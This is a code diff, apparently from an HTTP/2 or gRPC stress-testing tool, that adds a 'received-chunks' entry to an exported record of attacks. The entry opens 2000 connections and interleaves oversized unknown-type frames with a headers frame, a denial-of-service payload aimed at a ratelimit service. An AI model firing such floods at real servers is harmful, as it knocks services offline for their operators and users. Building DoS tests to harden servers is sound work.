@@ -64,6 +64,7 @@ const methodHeaders = (path: string, type = 'application/grpc') =>
     literal(0, 'content-type', type),
   ])
 const reflection = methodHeaders('/grpc.reflection.v1.ServerReflection/ServerReflectionInfo')
+const unknownFrame = frame({ type: 0xfe }, 0, Buffer.alloc(16_384))
 const fileRequest = text(4, 'envoy.service.ratelimit.v3.RateLimitService')
 const fileMessage = Buffer.concat([Buffer.alloc(1), uint32(fileRequest.length), fileRequest])
 
@@ -79,6 +80,15 @@ export const attacks: Readonly<Record<string, Attack>> = {
     first: Buffer.concat([
       headers(1, Buffer.alloc(16_000, 0x82), 0),
       frame({ type: frameTypes.continuation }, 1, Buffer.alloc(12_000, 0x82)),
+    ]),
+    reads: true,
+  },
+  'received-chunks': {
+    connections: 2000,
+    first: Buffer.concat([
+      many(3, () => unknownFrame),
+      headers(1, unlimited),
+      many(5, () => unknownFrame),
     ]),
     reads: true,
   },
